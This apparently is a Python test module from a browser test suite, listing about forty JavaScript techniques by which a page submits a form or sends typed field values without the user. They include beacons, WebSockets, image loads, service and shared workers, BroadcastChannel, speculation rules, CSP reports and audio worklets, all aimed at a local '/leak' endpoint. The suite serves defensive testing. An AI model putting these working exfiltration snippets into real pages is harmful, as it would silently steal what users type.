"""Ways in which a page submits a form, or sends off what was typed, without the person. Each really works."""

from tests.browser.attack import Attack, submitting
from tests.browser.attacks_by_detour import BY_DETOUR, DETOUR_PARTS
from tests.browser.attacks_by_markup import BY_MARKUP, MORE_SUBMITS

SERVICE_WORKER = """self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', event => event.waitUntil(self.clients.claim()));
self.addEventListener('message', event => fetch('/leak?' + event.data).catch(() => 0));"""

REGISTER = """window.ready = navigator.serviceWorker.register('/worker/service.js')
  .then(async found => { while (!found.active) await new Promise(go => setTimeout(go, 5)); window.worker = found.active; });"""


_FIRST = (
    submitting("requestSubmit() at the first letter", "typed(() => form.requestSubmit())"),
    submitting("form.submit() when the field changed", "once(first, 'change', () => form.submit())"),
    submitting(
        "form.submit() as GET when the field is left", "left(() => { form.method = 'get'; form.submit(); })"
    ),
    submitting("the page clicks its own button", "typed(() => document.getElementById('send').click())"),
    submitting(
        "into a hidden frame",
        "add('iframe', {name: 'hidden'}); typed(() => { form.target = 'hidden'; form.submit(); })",
    ),
    submitting(
        "with the untouched submit of a fresh frame",
        "typed(() => add('iframe', {}).contentWindow.HTMLFormElement.prototype.submit.call(form))",
    ),
    submitting("at the tick of a box", "ticked(() => form.submit())"),
    submitting("into a pop-up", "ticked(() => { form.target = '_blank'; form.submit(); })"),
    Attack("fetch", "typed(() => fetch('/leak', {method: 'POST', body: first.value}))"),
    Attack(
        "synchronous request",
        "typed(() => { const r = new XMLHttpRequest(); r.open('POST', '/leak', false); try { r.send(first.value) } catch {} })",
    ),
    Attack("beacon", "typed(() => navigator.sendBeacon('/leak', first.value))"),
    Attack("fetch that outlives the page", "left(() => fetch('/leak?' + value(), {keepalive: true}))"),
    Attack(
        "WebSocket from before",
        "const socket = new WebSocket(`ws://${location.host}/socket`);"
        "window.ready = new Promise(go => socket.onopen = go); typed(() => socket.send(first.value))",
    ),
    Attack(
        "WebSocket opened while typing",
        "typed(() => { const s = new WebSocket(`ws://${location.host}/socket`); s.onopen = () => s.send(first.value); })",
    ),
    Attack("address of a WebSocket", "typed(() => new WebSocket(`ws://${location.host}/socket?` + value()))"),
    Attack("picture", "typed(() => { new Image().src = '/leak?' + value(); })"),
    Attack("background of an element", "typed(() => { form.style.background = `url(/leak?${value()})`; })"),
    Attack("script element", "typed(() => add('script', {src: '/leak?' + value()}))"),
    Attack("module", "typed(() => import('/leak?' + value()).catch(() => 0))"),
    Attack("prefetch", "typed(() => add('link', {rel: 'prefetch', href: '/leak?' + value()}))"),
    Attack("event stream", "typed(() => new EventSource('/leak?' + value()))"),
    Attack("video", "typed(() => add('video', {src: '/leak?' + value(), preload: 'auto'}))"),
    Attack("leaving for another address", "typed(() => { location.href = '/leak?' + value(); })"),
    Attack(
        "refresh",
        "typed(() => document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=/leak?' + value()})))",
    ),
    Attack("frame", "typed(() => add('iframe', {src: '/leak?' + value()}))"),
    Attack(
        "frame of another site that is told the value",
        "const frame = add('iframe', {src: 'http://other.localhost/frame'});"
        "window.ready = new Promise(go => frame.onload = go); typed(() => frame.contentWindow.postMessage(first.value, '*'))",
    ),
    Attack("pop-up", "ticked(() => window.open('/leak?' + value()))"),
    Attack(
        "ping of a link",
        "typed(() => { const a = add('a', {href: '#x'}); a.ping = '/leak?' + value(); a.click(); })",
    ),
    Attack("download", "typed(() => add('a', {href: '/leak?' + value(), download: 'x'}).click())"),
    Attack(
        "worker",
        "const w = new Worker('/worker/plain.js'); window.ready = new Promise(go => w.onmessage = go);"
        "typed(() => w.postMessage(value()))",
    ),
    Attack(
        "WebSocket of a worker without a file",
        "const code = `onmessage = e => { const s = new WebSocket('ws://${location.host}/socket');"
        " s.onopen = () => s.send(e.data) }; postMessage(1)`;"
        "const w = new Worker(URL.createObjectURL(new Blob([code])));"
        "window.ready = new Promise(go => w.onmessage = go); typed(() => w.postMessage(value()))",
    ),
    Attack(
        "worker shared by tabs",
        "const w = new SharedWorker('/worker/shared.js'); window.ready = new Promise(go => w.port.onmessage = go);"
        "typed(() => w.port.postMessage(value()))",
    ),
    Attack("service worker", f"{REGISTER} typed(() => window.worker.postMessage(value()))"),
    Attack(
        "other tab that listens",
        "const told = new BroadcastChannel('tabs'); window.ready = new Promise(go => told.onmessage = go);"
        "told.postMessage('?'); typed(() => told.postMessage(value()))",
    ),
    Attack(
        "speculation rules",
        "typed(() => { const s = document.createElement('script'); s.type = 'speculationrules';"
        "s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['/leak?' + value()], eagerness: 'immediate'}]});"
        "document.head.append(s); })",
    ),
    Attack(
        "page that is drawn beforehand",
        "typed(() => { const s = document.createElement('script'); s.type = 'speculationrules';"
        "s.textContent = JSON.stringify({prerender: [{source: 'list', urls: ['/leak?' + value()], eagerness: 'immediate'}]});"
        "document.head.append(s); })",
    ),
    Attack(
        "report of a broken rule",
        "typed(() => { new Image().src = 'http://blocked.localhost/' + value(); })",
        headers=(("Content-Security-Policy", "img-src 'self'; report-uri /leak"),),
    ),
    Attack(
        "audio worklet",
        "const audio = new AudioContext(); typed(() => audio.audioWorklet.addModule('/leak?' + value()).catch(() => 0))",
    ),
)

ATTACKS = (*_FIRST, *MORE_SUBMITS, *BY_MARKUP, *BY_DETOUR)
"""All of them. What this Chromium does not do, or what needs a server that is no web server, is not among them:
WebTransport, reports by the Reporting API (delivered after a minute, over TLS only), preconnection (it carries no byte)."""

PARTS = {
    **DETOUR_PARTS,
    "/frame": ("text/html", "<script>onmessage = e => fetch('/leak?' + encodeURIComponent(e.data))</script>"),
    "/tab": (
        "text/html",
        "<script>const tabs = new BroadcastChannel('tabs');"
        "tabs.onmessage = e => e.data === '?' ? tabs.postMessage('!') : fetch('/leak?' + e.data)</script>",
    ),
    "/worker/plain.js": (
        "text/javascript",
        "onmessage = e => fetch('/leak?' + e.data).catch(() => 0); postMessage(1)",
    ),
    "/worker/shared.js": (
        "text/javascript",
        "onconnect = e => { const p = e.ports[0]; p.onmessage = m => fetch('/leak?' + m.data).catch(() => 0); p.postMessage(1) }",
    ),
    "/worker/service.js": ("text/javascript", SERVICE_WORKER),
}
"""What the attacks load besides the form: path -> (type, body)."""
